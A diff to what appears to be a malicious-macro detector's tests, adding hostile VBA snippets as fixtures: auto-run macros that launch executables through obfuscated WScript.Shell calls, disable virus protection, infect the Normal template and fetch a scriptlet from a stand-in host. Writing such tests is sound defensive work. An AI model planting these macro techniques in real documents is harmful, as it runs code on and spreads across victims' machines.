@@ -201,6 +201,18 @@ End Sub`),
     'Sub AutoOpen()\nSet s = CreateObject("Schedule.Service")\ns.Connect\nSet d = s.NewTask(0)\ns.GetFolder("\\").RegisterTaskDefinition "x", d, 6, "", "", 3\nEnd Sub',
   ),
   'scriptlet moniker': inDocument('Sub AutoOpen()\nSet o = GetObject("script:http://files.invalid/a.sct")\nEnd Sub'),
+  'script opened by Explorer': inDocument(
+    'Sub AutoOpen()\nOpen "C:\\nowhere\\notreal.hta" For Output As #1\nClose #1\nShell "explorer " & place\nEnd Sub',
+  ),
+  'copy into the template of all documents': inDocument(
+    'Sub AutoClose()\nOptions.VirusProtection = False\nNormalTemplate.VBProject.VBComponents.Item(1).CodeModule.InsertLines 1, x\nEnd Sub',
+  ),
+  'object named in a list': inDocument(
+    'Sub AutoOpen()\nCreateObject(Split("a|WScript.Shell", "|")(1)).Run "notreal.exe"\nEnd Sub',
+  ),
+  'member called by its name': inDocument(
+    'Sub AutoOpen()\nCallByName CreateObject("WScript.Shell"), "Run", VbMethod, "notreal.exe"\nEnd Sub',
+  ),
   'text saved as script, then started': inDocument(
     'Sub AutoOpen()\nActiveDocument.SaveAs2 FileName:="C:\\nowhere\\notreal.vbs", FileFormat:=2\nShell "wscript C:\\nowhere\\notreal.vbs"\nEnd Sub',
   ),
